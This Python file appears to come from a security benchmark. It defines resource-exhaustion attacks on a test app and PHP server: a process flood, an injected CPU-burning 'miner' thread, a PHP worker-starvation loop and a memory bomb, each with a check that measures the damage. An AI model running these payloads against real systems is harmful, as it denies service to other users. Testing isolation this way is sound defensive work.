# SPDX-License-Identifier: GPL-2.0
"""Burns and bombs: time, memory, processes."""

import os
import pathlib
import time

from bench.attacks.attack import ByApp, ByPhp
from bench.clients import web
from bench.net import CLIENTS
from bench.patience import wait

TICK = os.sysconf("SC_CLK_TCK")


def cpu_seconds(pid):
    """The time that a process has run."""
    try:
        stat = pathlib.Path(f"/proc/{pid}/stat").read_text(encoding="ascii", errors="replace")
        fields = stat.rpartition(")")[2].split()
        return (int(fields[11]) + int(fields[12])) / TICK
    except OSError:
        return 0.0


class Forks(ByApp):
    """Many processes, more than anybody needs; not so many that the machine dies of the measurement."""

    name = "bomb-app-forks"
    count = 120

    def setup(self):
        self.most = 0

    def run(self):
        self.aside(self.shell, f"for i in $(seq {self.count}); do sleep 31.337 & done")
        wait(self.damaged, 20, 0.5)

    def damaged(self):
        self.most = max(self.most, self.alive())
        return self.most >= self.count * 0.75

    @staticmethod
    def alive():
        """How many of them there are now."""
        alive = 0
        for path in pathlib.Path("/proc").glob("[0-9]*/cmdline"):
            try:
                alive += path.read_bytes().startswith(b"sleep\x0031.337")
            except OSError:
                pass
        return alive


class Burn(ByApp):
    """A miner in the process, for as long as it is let."""

    name = "burn-app-cpu"
    seconds = 12
    share = 0.3

    def setup(self):
        self.used = 0.0

    def run(self):
        pid = self.world.servers["app"].process.pid
        self.python(f"""
import hashlib, threading, time
def mine():
    end, block = time.monotonic() + {self.seconds}, b"x" * 65536
    while time.monotonic() < end:
        hashlib.sha256(block).digest()
threading.Thread(target=mine, daemon=True).start()
""")
        # The first two seconds are for whoever has to notice.
        time.sleep(2)
        before = cpu_seconds(pid)
        began = time.monotonic()
        time.sleep(self.seconds - 2)
        self.used = (cpu_seconds(pid) - before) / (time.monotonic() - began)

    def damaged(self):
        return self.used >= self.share


class PhpBurn(ByPhp):
    """Requests that never end, until nobody else gets a worker."""

    name = "burn-php-workers"
    patience = 40
    spoils = True

    def setup(self):
        super().setup()
        self.failed = 0

    def run(self):
        for _ in range(5):
            self.aside(self.php, "set_time_limit(25); $end = time() + 20; while (time() < $end) sha1('x');", 30)
        time.sleep(3)
        for _ in range(3):
            try:
                web.get("/page.php?p=1.html", source=CLIENTS[0], seconds=4)
            except OSError:
                self.failed += 1

    def damaged(self):
        return self.failed >= 2


class Memory(ByApp):
    """Four times the memory that it ever had."""

    name = "bomb-app-memory"
    size = 250 << 20
    spoils = True

    def setup(self):
        self.held = False

    def run(self):
        self.aside(self.python, f"""
import time
room = bytearray({self.size})
for at in range(0, len(room), 4096):
    room[at] = 1
time.sleep(12)
""")
        pid = self.world.servers["app"].process.pid

        def is_big():
            try:
                pages = int(pathlib.Path(f"/proc/{pid}/statm").read_text(encoding="ascii").split()[1])
            except OSError:
                pages = 0
            return pages * 4096 >= self.size

        # It has to keep it, not only to get it.
        self.held = bool(wait(is_big, 12, 0.5))
        if self.held:
            time.sleep(4)
            self.held = is_big()

    def damaged(self):
        return self.held


ATTACKS = [Forks, Burn, PhpBurn, Memory]
